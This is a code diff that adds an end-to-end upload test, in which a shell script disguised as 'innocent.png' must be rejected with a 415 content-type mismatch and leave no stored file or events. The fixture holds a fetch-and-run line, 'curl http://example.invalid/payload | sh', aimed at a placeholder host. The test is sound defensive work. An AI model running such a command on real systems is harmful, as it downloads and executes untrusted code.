@@ -140,6 +140,31 @@ describe.each(TEST_STORES)('uploads end to end with tus-js-client on the $name s
     expect((await server.storedFiles()).filter((name) => name.includes(id))).toEqual([])
   })
 
+  it('fails a text file declared as an image (a script named .png) with 415 and no event', async () => {
+    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/payload | sh\n')
+    const error = await uploadWithTus(server.tusEndpoint, script, {
+      metadata: pngMetadata('innocent.png'),
+    }).then(
+      () => undefined,
+      (reason: unknown) => reason,
+    )
+
+    expect(isDetailedError(error) && error.originalResponse?.getStatus()).toBe(415)
+    const body = isDetailedError(error) ? JSON.parse(error.originalResponse?.getBody() ?? '{}') : {}
+    expect(body.error).toEqual({
+      code: 'content_type_mismatch',
+      message: "The file's content is text/plain, but it was declared as image/png.",
+    })
+    const id = isDetailedError(error)
+      ? (error.originalRequest?.getURL().split('/').at(-1) ?? '')
+      : ''
+    const { file, events, jobs } = await recordsFor(server.knex, id)
+    expect(file.status).toBe('FAILED')
+    expect(events).toHaveLength(0)
+    expect(jobs).toHaveLength(0)
+    expect((await server.storedFiles()).filter((name) => name.includes(id))).toEqual([])
+  })
+
   it('refuses a file over the size limit with 413 before any byte is sent', async () => {
     const rowsBefore = await countRows(server.knex, 'upload_files')
     const filesBefore = await server.storedFiles()
